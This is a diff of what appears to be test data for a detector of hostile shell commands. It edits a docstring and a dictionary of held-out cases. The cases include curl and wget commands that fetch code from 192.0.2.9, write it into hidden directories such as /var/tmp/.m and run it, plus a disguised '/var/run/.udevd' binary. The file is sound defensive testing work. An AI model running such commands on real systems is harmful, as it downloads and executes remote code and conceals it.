@@ -30,8 +30,8 @@ measured:
   'bash -s'``;
 - after the held-out part was measured (its misses looked at, so these are not held-out figures):
   ``perl -x FILE`` read as code (its ``-x`` names no code), a download moved by a pattern (``mv kit_*
-  /tmp``), a download written by a redirect into a hiding place (``wget -O - URL > /var/run/x``) and
-  ``/var/run`` as one.
+  /tmp``), a download written by a redirect into a hidden directory (``wget -O - URL > /tmp/.x/a``) and
+  ``/var/run`` as a hiding place for programs run.
 """
 
 from __future__ import annotations
@@ -93,7 +93,7 @@ HELD = {
     "after the held-out part was seen": [
         "ruby -x /var/tmp/.rb/r",
         "curl -fsS http://192.0.2.9/k -o /tmp/k-1.sh && mv /tmp/k-* /opt/ && sh /opt/k-1.sh",
-        "curl -s http://192.0.2.9/m > /dev/shm/m",
+        "curl -s http://192.0.2.9/m > /var/tmp/.m/m",
         "/var/run/.udevd",
     ],
     "data run as code by a cutter": [
